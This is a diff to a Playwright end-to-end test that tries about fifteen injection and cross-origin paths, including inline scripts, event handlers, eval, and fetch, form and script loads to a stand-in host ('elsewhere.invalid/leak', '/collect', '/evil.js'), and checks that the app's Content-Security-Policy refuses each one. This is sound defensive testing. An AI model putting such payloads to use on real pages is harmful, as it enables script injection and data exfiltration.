@@ -1,9 +1,11 @@
 /**
  * Journey: a newcomer opens Preflight for the first time. The demo clinic is there, every
  * workspace shows its real content, the page is accessible, secure headers are in force and
- * nothing is printed to the console.
+ * nothing is printed to the console. Then every way of injecting code or loading from elsewhere
+ * is tried in the running app and each is refused by the Content-Security-Policy with a
+ * recorded violation.
  */
-import type { Browser, BrowserContext } from 'playwright-core';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { axeViolations, baseUrl, launchBrowser, openApp, type Watched } from './browser.ts';
 
@@ -105,7 +107,10 @@ describe('first visit', () => {
     await page.getByRole('link', { name: 'Sign-off', exact: true }).click();
     await page.getByRole('heading', { level: 2, name: 'Sign-off' }).waitFor();
     await expect(page.getByText('Highest error rate accepted (%)').first().isVisible()).resolves.toBe(true);
-    await page.getByRole('link', { name: 'Readiness', exact: true }).click();
+    // the refused form left no navigation behind: the app still moves between workspaces
+    await page.evaluate(() => {
+      window.location.hash = '#/readiness';
+    });
     await page.getByRole('heading', { level: 2, name: 'Readiness' }).waitFor();
     await expect(page.getByRole('listitem').filter({ hasText: 'Discovery' }).isVisible()).resolves.toBe(true);
   });
@@ -134,5 +139,221 @@ describe('first visit', () => {
   it('printed nothing to the console and broke no CSP rule', () => {
     expect(app.console).toEqual([]);
     expect(app.cspViolations).toEqual([]);
+  });
+});
+
+/** Another origin: nothing may be loaded from or sent to it (the policy refuses before any request). */
+const ELSEWHERE = 'https://elsewhere.invalid';
+
+/**
+ * One way in. `attempt` runs in the page (its source is sent as text, so it names nothing outside
+ * itself); each sets `window.pwned` when it gets through. `runsWithoutPolicy`: the attempt does run
+ * on a page without a policy, which proves the attempt itself works.
+ */
+interface Injection {
+  name: string;
+  attempt: (elsewhere: string) => unknown;
+  /** the violated directive the browser reports */
+  directive: string;
+  runsWithoutPolicy: boolean;
+}
+
+const INJECTIONS: Injection[] = [
+  {
+    name: 'an inline script',
+    attempt: () => {
+      const script = document.createElement('script');
+      script.textContent = 'window.pwned = 1';
+      document.body.append(script);
+    },
+    directive: 'script-src-elem',
+    runsWithoutPolicy: true,
+  },
+  {
+    name: 'an inline event-handler attribute',
+    attempt: () => {
+      const holder = document.createElement('div');
+      holder.innerHTML =
+        '<img alt="" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="window.pwned = 2">';
+      document.body.append(holder);
+    },
+    directive: 'script-src-attr',
+    runsWithoutPolicy: true,
+  },
+  {
+    name: 'a javascript: link',
+    attempt: () => {
+      const link = document.createElement('a');
+      link.href = 'javascript:window.pwned = 3';
+      link.textContent = 'x';
+      document.body.append(link);
+      link.click();
+    },
+    directive: 'script-src-elem',
+    runsWithoutPolicy: true,
+  },
+  {
+    name: 'eval',
+    // later, from the page's own task: code evaluated through DevTools is exempt from the policy
+    attempt: () =>
+      setTimeout(() => {
+        try {
+          // biome-ignore lint/security/noGlobalEval: the attempt the policy must refuse
+          eval('window.pwned = 4');
+        } catch {}
+      }),
+    directive: 'script-src',
+    runsWithoutPolicy: true,
+  },
+  {
+    name: 'new Function',
+    attempt: () =>
+      setTimeout(() => {
+        try {
+          new Function('window.pwned = 5')();
+        } catch {}
+      }),
+    directive: 'script-src',
+    runsWithoutPolicy: true,
+  },
+  {
+    name: 'a style attribute in markup',
+    attempt: () => {
+      const holder = document.createElement('div');
+      holder.innerHTML = '<p style="color: red">styled</p>';
+      document.body.append(holder);
+    },
+    directive: 'style-src-attr',
+    runsWithoutPolicy: false,
+  },
+  {
+    name: 'an inline style element',
+    attempt: () => {
+      const style = document.createElement('style');
+      style.textContent = 'body { color: red }';
+      document.head.append(style);
+    },
+    directive: 'style-src-elem',
+    runsWithoutPolicy: false,
+  },
+  {
+    name: 'a <base> pointing elsewhere',
+    attempt: (elsewhere) => {
+      const holder = document.createElement('div');
+      holder.innerHTML = `<base href="${elsewhere}/">`;
+      document.head.append(...holder.childNodes);
+    },
+    directive: 'base-uri',
+    runsWithoutPolicy: false,
+  },
+  {
+    name: 'an <object>',
+    attempt: (elsewhere) => {
+      const object = document.createElement('object');
+      object.data = `${elsewhere}/plugin.swf`;
+      document.body.append(object);
+    },
+    directive: 'object-src',
+    runsWithoutPolicy: false,
+  },
+  {
+    name: 'a script from another origin',
+    attempt: (elsewhere) => {
+      const script = document.createElement('script');
+      script.src = `${elsewhere}/evil.js`;
+      document.body.append(script);
+    },
+    directive: 'script-src-elem',
+    runsWithoutPolicy: false,
+  },
+  {
+    name: 'an image from another origin',
+    attempt: (elsewhere) => {
+      const image = new Image();
+      image.src = `${elsewhere}/pixel.png`;
+      document.body.append(image);
+    },
+    directive: 'img-src',
+    runsWithoutPolicy: false,
+  },
+  {
+    name: 'a fetch to another origin',
+    attempt: (elsewhere) => fetch(`${elsewhere}/leak`).catch(() => undefined),
+    directive: 'connect-src',
+    runsWithoutPolicy: false,
+  },
+  {
+    name: 'a frame',
+    attempt: (elsewhere) => {
+      const frame = document.createElement('iframe');
+      frame.src = `${elsewhere}/`;
+      document.body.append(frame);
+    },
+    directive: 'frame-src',
+    runsWithoutPolicy: false,
+  },
+  {
+    name: 'a form sent elsewhere',
+    attempt: (elsewhere) => {
+      const form = document.createElement('form');
+      form.action = `${elsewhere}/collect`;
+      form.method = 'post';
+      document.body.append(form);
+      form.submit();
+    },
+    directive: 'form-action',
+    runsWithoutPolicy: false,
+  },
+  {
+    name: 'a worker from a blob',
+    attempt: () => {
+      try {
+        new Worker(URL.createObjectURL(new Blob(['self.postMessage(1)'], { type: 'text/javascript' })));
+      } catch {}
+    },
+    directive: 'worker-src',
+    runsWithoutPolicy: false,
+  },
+];
+
+const pwned = (page: Page) => page.evaluate(() => (window as unknown as { pwned?: number }).pwned ?? null);
+
+describe('every injection path is refused', () => {
+  let injected: Watched;
+
+  beforeAll(async () => {
+    injected = await openApp(context);
+  });
+
+  it.each(INJECTIONS.filter((i) => i.runsWithoutPolicy))(
+    'the attempt with $name runs on a page without a policy (the check proves itself)',
+    async ({ attempt }) => {
+      const page = await context.newPage();
+      await page.setContent('<!doctype html><title>no policy</title><body></body>');
+      await page.evaluate(attempt, ELSEWHERE);
+      await expect.poll(() => pwned(page)).not.toBeNull();
+      await page.close();
+    },
+  );
+
+  it.each(INJECTIONS)('$name is refused with a $directive violation', async ({ attempt, directive }) => {
+    const { page, cspViolations } = injected;
+    const before = cspViolations.length;
+    await page.evaluate(attempt, ELSEWHERE);
+    await expect
+      .poll(() => cspViolations.slice(before))
+      .toContainEqual(expect.stringMatching(`^${directive} blocked`));
+    expect(await pwned(page)).toBeNull();
+  });
+
+  it('nothing ran and the app kept working', async () => {
+    const { page } = injected;
+    expect(await pwned(page)).toBeNull();
+    // the refused form left no navigation behind: the app still moves between workspaces
+    await page.evaluate(() => {
+      window.location.hash = '#/readiness';
+    });
+    await page.getByRole('heading', { level: 2, name: 'Readiness' }).waitFor();
+    expect(injected.console.filter((line) => line.startsWith('pageerror'))).toEqual([]);
   });
 });
